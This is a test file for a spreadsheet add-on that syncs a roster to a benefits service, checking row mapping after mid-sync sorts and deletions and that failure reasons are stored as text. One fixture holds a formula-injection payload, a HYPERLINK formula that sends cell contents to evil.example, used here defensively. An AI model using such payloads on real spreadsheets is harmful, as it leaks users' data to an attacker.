import { personRow, ROSTER_HEADER, rosterOf, World, useAddonSandbox } from "./support/addonSandbox";

/**
 * Rows Vitable rejects are marked Failed with Vitable's reason, on the row that holds the
 * person when the outcome is written (invariant 5), and the reason stays text (invariant 8).
 */

const sandbox = useAddonSandbox();

const SLOW_PROCESSING_MS = 60_000;
const SYNC_REQUEST_PATH = "/v1/groups/*/members/sync/*";

/**
 * Starts a first sync from the sidebar that Vitable takes a minute to process: the answer is
 * pending. The add-on created the group (linkNewGroup), so there is nothing to confirm.
 */
function startSlowFirstSync(world: World): string {
  const started = world.call("startSync", { sheetId: world.sheetId, confirmation: null });
  if (started.state !== "pending") throw new Error(`Expected a pending sync, got ${JSON.stringify(started)}`);
  return started.requestId;
}

it("writes Vitable's failures to the rows holding those people after the tab was sorted mid-sync", async () => {
  const world = new World(sandbox);
  world.type([
    ROSTER_HEADER,
    personRow(1),
    personRow(2, { Email: "second@other-org.example" }),
    personRow(3),
    personRow(4, { Plan: "Care Plus" }),
  ]);
  const groupId = world.linkNewGroup();
  await sandbox.emulator.control.setProcessingDelay(SLOW_PROCESSING_MS);
  startSlowFirstSync(world);
  expect([...world.statuses().values()].map((cells) => cells.status)).toEqual([
    "Pending",
    "Pending",
    "Pending",
    "Pending",
  ]);
  // Vitable drops Care Plus from the organization while it processes the roster.
  await sandbox.emulator.control.setPlans("org_sandbox", [{ id: "pln_sbx_basic", name: "Basic Care" }]);

  // The user sorts the tab in reverse: row 2 now holds person 4, row 5 person 1.
  world.reorderRows([5, 4, 3, 2]);
  world.clock.advance(SLOW_PROCESSING_MS);
  const result = world.call("checkSync", { sheetId: world.sheetId });

  expect(result.state).toBe("completed");
  if (result.state !== "completed") return;
  expect(result.failures).toEqual([
    expect.objectContaining({ referenceId: "1002", name: "First2 Last2", row: 4, operation: "add" }),
    expect.objectContaining({ referenceId: "1004", name: "First4 Last4", row: 2, reason: "Invalid plan_id" }),
  ]);
  const statuses = world.statuses();
  expect(statuses.get(2)).toEqual({ status: "Failed", message: "Invalid plan_id" });
  expect(statuses.get(3)?.status).toBe("Added");
  expect(statuses.get(4)).toEqual({ status: "Failed", message: expect.stringContaining("another organization") });
  expect(statuses.get(5)?.status).toBe("Added");
  expect(await world.membersOf(groupId)).toEqual(["1001", "1003"]);
  expect(world.roster.cellAt(2, 1).displayValue).toBe("1004");
});

it("gives no row a result when its person's row was deleted mid-sync", async () => {
  const world = new World(sandbox);
  world.type([ROSTER_HEADER, personRow(1), personRow(2, { Email: "second@other-org.example" }), personRow(3)]);
  world.linkNewGroup();
  await sandbox.emulator.control.setProcessingDelay(SLOW_PROCESSING_MS);
  startSlowFirstSync(world);

  world.roster.deleteRows(3, 1);
  world.clock.advance(SLOW_PROCESSING_MS);
  const result = world.call("checkSync", { sheetId: world.sheetId });

  expect(result).toMatchObject({ state: "completed", failures: [{ referenceId: "1002", row: null }] });
  expect(world.statusById()).toEqual(
    new Map([
      ["1001", { status: "Added", message: expect.any(String) }],
      ["1003", { status: "Added", message: expect.any(String) }],
    ]),
  );
});

const FORMULA_LOOKING_REASONS: Record<string, string> = {
  "1001": '=HYPERLINK("https://evil.example/?leak="&A1,"Fix your enrolment here")',
  "1002": "+1 (800) 555-0100 call us to finish enrolment",
  "1003": "@x rejected",
};

/**
 * A first sync of people 1–3 whose outcome Vitable reports with the reasons above (injected as
 * the answer to the add-on's next status check), written back by the sidebar's check.
 */
async function syncWithFormulaLookingReasons(world: World): Promise<void> {
  const groupId = world.linkNewGroup();
  await sandbox.emulator.control.setProcessingDelay(SLOW_PROCESSING_MS);
  const requestId = startSlowFirstSync(world);
  const accepted = (await sandbox.emulator.control.state()).syncRequests.find((r) => r.request_id === requestId)!;
  await sandbox.emulator.control.injectFault({
    kind: "status",
    method: "GET",
    path: SYNC_REQUEST_PATH,
    status: 200,
    body: {
      data: {
        request_id: requestId,
        group_id: groupId,
        accepted_at: accepted.accepted_at,
        completed_at: accepted.accepted_at,
        results: {
          added_group_member_ids: [],
          removed_group_member_ids: [],
          failures: Object.entries(FORMULA_LOOKING_REASONS).map(([id, reason]) => ({
            reference_id: id,
            operation: "add",
            reason,
          })),
        },
      },
    },
  });
  const result = world.call("checkSync", { sheetId: world.sheetId });
  expect(result.state).toBe("completed");
}

/** The Vitable Message cell of each person's row (rows 2–4 hold people 1–3). */
function messageCells(world: World) {
  const messageColumn = world.roster.displayValuesForHost()[0]!.indexOf("Vitable Message") + 1;
  return Object.entries(FORMULA_LOOKING_REASONS).map(([, reason], index) => ({
    reason,
    cell: world.roster.cellAt(index + 2, messageColumn),
  }));
}

it("writes formula-looking reasons from Vitable into its own status columns as text, never as formulas", async () => {
  const world = new World(sandbox);
  world.type(rosterOf(3));
  await syncWithFormulaLookingReasons(world);

  expect([...world.statuses().values()].map((cells) => cells.status)).toEqual(["Failed", "Failed", "Failed"]);
  for (const { reason, cell } of messageCells(world)) {
    expect(cell.formula).toBe("");
    // The add-on formats the Message column it adds as plain text, where the sandbox keeps the
    // text mark it writes in front of such reasons; the reason itself is there, as text.
    expect(cell.displayValue.replace(/^'/, "")).toBe(reason);
  }
});

it("writes formula-looking reasons as exactly their text into status columns the user made", async () => {
  const world = new World(sandbox);
  const header = [...ROSTER_HEADER, "Vitable Status", "Vitable Message", "Vitable Synced At"];
  world.type([header, personRow(1), personRow(2), personRow(3)]);
  await syncWithFormulaLookingReasons(world);

  for (const { reason, cell } of messageCells(world)) {
    expect(cell.formula).toBe("");
    expect(cell.value).toBe(reason);
    expect(cell.displayValue).toBe(reason);
  }
});
